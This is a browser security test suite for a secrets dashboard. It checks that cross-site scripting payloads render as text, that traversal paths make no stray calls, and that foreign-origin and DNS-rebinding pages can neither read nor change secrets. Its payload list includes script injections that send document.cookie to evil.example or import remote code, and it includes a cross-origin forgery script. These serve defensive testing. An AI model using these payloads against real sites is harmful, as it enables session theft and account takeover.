"""The dashboard in a real browser, attacked: hostile names, tags and addresses, and pages of other sites."""

import itertools
import re
from urllib.parse import urlsplit

import pytest
from dashboard_page import FLAGS, Dashboard, chromium, foreign_site
from harness import running
from playwright.sync_api import expect

pytestmark = pytest.mark.browser
VALUE = "cnry-Db71-dashboard-value"


SHAPES = [
    "<script>{}</script>", "<img src=x onerror={}>", '"><svg onload={}>', "'><body onload={}>",
    "<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>", "</title><script>{}</script>",
    "</textarea><script>{}</script>", "javascript:{}", "<details open ontoggle={}>", "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>", "${{{}}}", "{{{{{}}}}}", "`;{};`", "';{};'",
    "<math><mi xlink:href=data:x,{}>", "<style>@import '{}'</style>", "<base href='{}'>",
    "<meta http-equiv=refresh content='0;{}'>", "<object data='javascript:{}'>",
    "<template><script>{}</script></template>", "<!--><img src=x onerror={}>-->", "\u202e<b onmouseover={}>",
    "data:text/html,<script>{}</script>",
]  # fmt: skip
CALLS = [
    "window.hit=1", "alert(1)", "top.hit=1", "import('//evil.example/x.js')",
    "fetch('//evil.example/'+document.cookie)", "document.title='hit'", "location='//evil.example'",
    "navigator.sendBeacon('//evil.example',1)",
]  # fmt: skip
PAYLOADS = [shape.format(call) for shape, call in itertools.product(SHAPES, CALLS)]


def grown(page):
    """Show all rows of long lists."""
    more = page.get_by_role("button", name="Show more")
    while more.count() and more.first.is_visible():
        more.first.click()
    return page.evaluate("() => document.body.innerText")


def flat(text):
    return re.sub(r"\s+", " ", text)


def test_two_hundred_hostile_texts_are_shown_as_text(tmp_path, browser):
    """In tags, names and tags of applications, users, roles, subjects, actions on them in the trail, and addresses."""
    assert len(set(PAYLOADS)) == 200
    tmp_path.chmod(0o700)
    with running(tmp_path) as server, browser.new_context() as context:
        admin = server.client()
        admin.put("/secrets/held", content=VALUE)
        tags = [{"key": payload, "value": payload} for payload in PAYLOADS]
        app = admin.post("/applications", json={"name": "tagged"}).json()["id"]
        for path in ("/secrets/held", f"/applications/{app}"):
            assert admin.put(f"{path}/tags", json=tags).status_code == 200
        kinds = itertools.cycle(["USER", "GROUP", "ROLE"])
        for payload in PAYLOADS:
            assert admin.post("/applications", json={"name": payload}).status_code == 200
            assert admin.post("/roles", json={"name": payload, "permissions": []}).status_code == 200
            for target in ({"type": "SECRET_NAME", "id": "held"}, {"type": "TAG", "id": f"{payload}:{payload}"}):
                body = {"subject": {"type": next(kinds), "id": payload}, "target": target, "access": ["READ"]}
                assert admin.post("/auth/authorization", json=body).status_code == 200
        shown = Dashboard.open(server, context.new_page()).sign_in()
        views = {
            "#secrets": ("Secrets", ".chip", 200),
            "#secrets/held": ("held", "section button:text-is('Show more'):visible", 2),
            "#applications": ("Applications", "li", 100),
            f"#applications/{app}": ("tagged", "li.chip", 200),
        }
        for view, (heading, rows, count) in views.items():
            shown.go(view)
            shown.see(heading)
            expect(shown.page.locator(rows)).to_have_count(count, timeout=20_000)
            text = flat(grown(shown.page))
            assert [payload for payload in PAYLOADS if flat(payload) not in text] == []
        shown.go("#audit")
        shown.see("Audit")
        shown.press("Older")
        shown.go("#secrets")
        for payload in PAYLOADS[:40]:
            shown.page.get_by_role("button", name=f"Search for tag {payload}:{payload}", exact=True).click()
            assert shown.page.get_by_label("Search names and tags").input_value() == f"{payload}:{payload}"
        for payload in PAYLOADS[::5]:
            shown.go(f"#secrets/{payload}")
            shown.go(f"#applications/{payload}")
        shown.page.wait_for_load_state("networkidle")
        assert shown.page.evaluate("() => window.hit") is None
        assert "hit" not in shown.page.title()
        foreign = ["script", "iframe", "img", "svg", "object", "style", "base", "video", "math", "details", "template"]
        assert shown.page.evaluate("(tags) => document.body.querySelectorAll(tags).length", ", ".join(foreign)) == 0
        shown.close()


def test_hostile_text_that_is_typed_in_is_shown_as_text(admin, dashboard, secret):
    dashboard.sign_in()
    for payload in PAYLOADS[::8]:
        dashboard.go("#applications")
        dashboard.see("Applications")
        dashboard.write("Name of a new application", payload)
        dashboard.press("Create application")
        dashboard.see(flat(payload))
        dashboard.write("Tag", payload)
        dashboard.press("Add tag")
        dashboard.news(f"Tag {payload} added.")
        dashboard.press("Delete application")
        dashboard.write(f"Type {payload} to confirm", payload)
        dashboard.press("Delete")
        dashboard.news(f"Application {payload} is deleted.")
    assert dashboard.page.evaluate("() => window.hit") is None


@pytest.mark.parametrize("name", ["..", ".", "../token", "%2e%2e", "../../openapi.json", "a/b", "%", "held?x=1", "#"])
def test_an_address_leads_to_no_other_call(dashboard, name):
    dashboard.sign_in()
    before = len(dashboard.calls())
    for view in ("#secrets/", "#applications/"):
        dashboard.go(view + name)
    asked = {path for _, path in dashboard.calls()[before:]}
    assert not [path for path in asked if not re.fullmatch(r"/secrets-v2|/applications|/applications/[\w%.]+", path)]


ATTEMPTS = """async ({api, token}) => {
    const tried = [];
    const attempt = async (name, act) => {
        let read;
        try { read = await act(); } catch { read = null; }
        tried.push([name, read ?? null]);
    };
    const asked = (path, options) => async () => (await fetch(api + path, options)).text();
    const grant = JSON.stringify({subject: {type: "USER", id: "app:orkes-workers"},
        target: {type: "SECRET_NAME", id: "target"}, access: ["READ"]});
    for (const mode of ["cors", "no-cors", "same-origin"]) {
        for (const headers of [{}, {"X-Authorization": token}, {"Content-Type": "text/plain"}]) {
            await attempt(`read ${mode}`, asked("/secrets/target", {mode, headers}));
            await attempt(`put ${mode}`, asked("/secrets/target", {mode, headers, method: "PUT", body: "changed"}));
            await attempt(`delete ${mode}`, asked("/secrets/target", {mode, headers, method: "DELETE"}));
            await attempt(`list ${mode}`, asked("/secrets", {mode, headers, method: "POST"}));
            await attempt(`grant ${mode}`, asked("/auth/authorization", {mode, headers, method: "POST", body: grant}));
        }
        await attempt(`credentials ${mode}`, asked("/secrets", {mode, credentials: "include", method: "POST"}));
        await attempt(`page ${mode}`, asked("/../dashboard/", {mode}));
    }
    await attempt("beacon", () => { navigator.sendBeacon(api + "/applications", grant); });
    await attempt("XMLHttpRequest", () => new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onloadend = () => done(request.responseText || null);
        request.open("DELETE", api + "/secrets/target");
        request.setRequestHeader("X-Authorization", token);
        request.send();
    }));
    for (const type of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"]) {
        for (const path of ["/applications", "/auth/authorization", "/secrets/target"]) {
            await attempt(`form ${type} ${path}`, () => new Promise((done) => {
                const frame = document.createElement("iframe");
                frame.name = `frame-${tried.length}`;
                document.body.append(frame);
                const form = document.createElement("form");
                Object.assign(form, {method: "post", enctype: type, action: api + path, target: frame.name});
                const field = document.createElement("input");
                Object.assign(field, {name: '{"name": "forged", "x": "', value: '"}'});
                form.append(field);
                document.body.append(form);
                frame.onload = () => setTimeout(() => {
                    let text = null;
                    try { text = frame.contentDocument.body.innerText || null; } catch {}
                    done(text);
                }, 50);
                setTimeout(done, 1000, null);
                form.submit();
            }));
        }
    }
    for (const [tag, name, path] of [["script", "src", "/../dashboard/app.js"],
        ["img", "src", "/../dashboard/icon.svg"], ["script", "src", "/secrets/target"],
        ["link", "href", "/../dashboard/style.css"], ["iframe", "src", "/../dashboard/"],
        ["embed", "src", "/../dashboard/"],
        ["object", "data", "/../dashboard/"]]) {
        await attempt(`${tag} ${path}`, () => new Promise((done) => {
            const element = document.createElement(tag);
            if (tag === "link") element.rel = "stylesheet";
            if (tag === "script") element.type = "module";
            element[name] = api + path;
            element.onload = () => {
                let inside = tag === "iframe" || tag === "object" || tag === "embed" ? null : "loaded";
                try { inside ??= element.contentDocument.body.innerText || null; } catch {}
                done(inside);
            };
            element.onerror = () => done(null);
            setTimeout(done, 1000, null);
            document.body.append(element);
        }));
    }
    return tried;
}"""


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_foreign_page_changes_nothing_and_reads_nothing(server, admin, browser, host):
    """Not even with a token, which it cannot have; while the dashboard is open beside it."""
    admin.put("/secrets/target", content=VALUE)
    state = lambda: [  # noqa: E731
        admin.get("/secrets-v2").json(),
        admin.get("/applications").json(),
        admin.get("/auth/authorization/SECRET_NAME/target").json(),
        admin.get("/secrets/target").text,
    ]
    before = state()
    with foreign_site() as (port, pages), browser.new_context() as context:
        pages["/"] = "<!doctype html><title>evil</title><body></body>"
        shown = Dashboard.open(server, context.new_page()).sign_in()
        evil = context.new_page()
        evil.goto(f"http://{host}:{port}/")
        tried = evil.evaluate(ATTEMPTS, {"api": server.url, "token": shown.token()})
        assert len(tried) >= 60
        opaque = [name for name, read in tried if read == ""]  # a no-cors answer that nobody can look into
        assert all("no-cors" in name for name in opaque)
        assert [(name, read) for name, read in tried if read] == []
        opened = evil.evaluate(
            """(address) => new Promise((done) => {
                const other = window.open(address);
                const look = () => other?.document?.body?.innerText ?? null;
                setTimeout(() => { try { done(look()); } catch { done(null); } }, 700);
            })""",
            server.url.replace("/api", "/dashboard/"),
        )
        assert opened is None
        shown.close()
    assert state() == before


REBOUND = """async ({token}) => {
    const seen = [];
    for (const path of ["/api/secrets", "/api/secrets/target", "/api/secrets/target/exists", "/api/secrets-v2",
        "/api/token/userInfo", "/api/audit", "/openapi.json", "/dashboard/", "/dashboard/app.js", "/"]) {
        for (const method of ["GET", "POST", "PUT", "DELETE"]) {
            for (const headers of [{}, {"X-Authorization": token}]) {
                const body = method === "GET" ? undefined : '"rebound"';
                const answer = await fetch(path, {method, headers, body});
                seen.push(`${answer.status} ${await answer.text()}`);
            }
        }
        const frame = document.createElement("iframe");
        frame.src = path;
        await new Promise((done) => { frame.onload = done; document.body.append(frame); });
        let text = "";
        try { text = frame.contentDocument.body.innerText; } catch {}
        seen.push(`frame ${text}`);
    }
    return seen;
}"""


@pytest.mark.parametrize("name", ["rebound.example", "127.0.0.1.rebound.example", "localhost.example"])
def test_a_page_whose_name_comes_to_mean_this_machine_gets_nothing(server, admin, playwright, name):
    """Its requests are of one origin for the browser, so only the server can tell; not even a good token helps."""
    admin.put("/secrets/target", content=VALUE)
    rebound = ["--host-resolver-rules=MAP *.example 127.0.0.1", "--disable-features=LocalNetworkAccessChecks"]
    started = playwright.chromium.launch(executable_path=chromium(), args=[*FLAGS, *rebound])
    page = started.new_page()
    address = f"http://{name}:{urlsplit(server.url).port}/evil"
    page.route(address, lambda route: route.fulfill(body="<!doctype html><body></body>", content_type="text/html"))
    page.goto(address)
    seen = page.evaluate(REBOUND, {"token": admin.headers["X-Authorization"]})
    started.close()
    assert len(seen) == 90
    answers = {one for one in seen if not one.startswith("frame")}
    assert {one.partition(" ")[0] for one in answers} == {"421"}
    assert len(answers) == 1, "every refusal reads alike"
    assert not any(VALUE in one or "target" in one or "secretref</title>" in one for one in seen)
    assert admin.get("/secrets/target").text == VALUE
